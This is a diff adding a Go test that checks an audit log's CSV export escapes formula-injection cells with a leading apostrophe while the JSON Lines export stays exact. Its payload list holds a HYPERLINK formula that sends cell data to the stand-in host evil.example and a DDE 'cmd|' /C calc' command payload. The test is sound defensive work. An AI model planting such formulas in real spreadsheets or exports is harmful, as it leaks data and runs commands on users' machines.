@@ -3,12 +3,14 @@ package audit_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
 	"log/slog"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -390,4 +392,64 @@ func TestExportGolden(t *testing.T) {
 			testutil.Golden(t, filepath.Join("testdata", "export."+string(f)+".golden"), b.Bytes())
 		})
 	}
+}
+
+// TestCSVExportNeutralisesFormulas: a cell an attacker controls (the
+// X-Request-Id, the source, the reason...) that a spreadsheet would run as a
+// formula is written with a leading apostrophe (OWASP, CSV injection),
+// while the JSON Lines export keeps the value exact and verifies.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	l := openJournalLog(t, dir)
+	defer l.Close()
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"}
+	for i, p := range payloads {
+		e := audittest.Event(i, time.Time{})
+		e.RequestID, e.Reason, e.Actor = p, p, p
+		if _, err := l.Record(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var out bytes.Buffer
+	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatCSV, &out); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %s column %d starts a formula: %q", row[1], i, cell)
+			}
+		}
+		if want := "'" + payloads[mustAtoi(t, row[1])-1]; row[8] != want {
+			t.Errorf("request id %q, want %q", row[8], want)
+		}
+	}
+	out.Reset()
+	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatJSONL, &out); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := audit.VerifyJSONL(ctx, bytes.NewReader(out.Bytes()), audit.VerifyOptions{})
+	if err != nil || rep.Chains[0].Records != len(payloads) {
+		t.Fatalf("JSON Lines export: %v %+v", err, rep)
+	}
+	for i, line := range bytes.Split(bytes.TrimSpace(out.Bytes()), []byte("\n")) {
+		r, err := audit.ParseJSONL(append(line, '\n'))
+		if err != nil || r.RequestID != payloads[i] {
+			t.Errorf("JSON Lines request id %q, want %q exactly (%v)", r.RequestID, payloads[i], err)
+		}
+	}
+}
+
+func mustAtoi(t *testing.T, s string) int {
+	t.Helper()
+	n, err := strconv.Atoi(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return n
 }
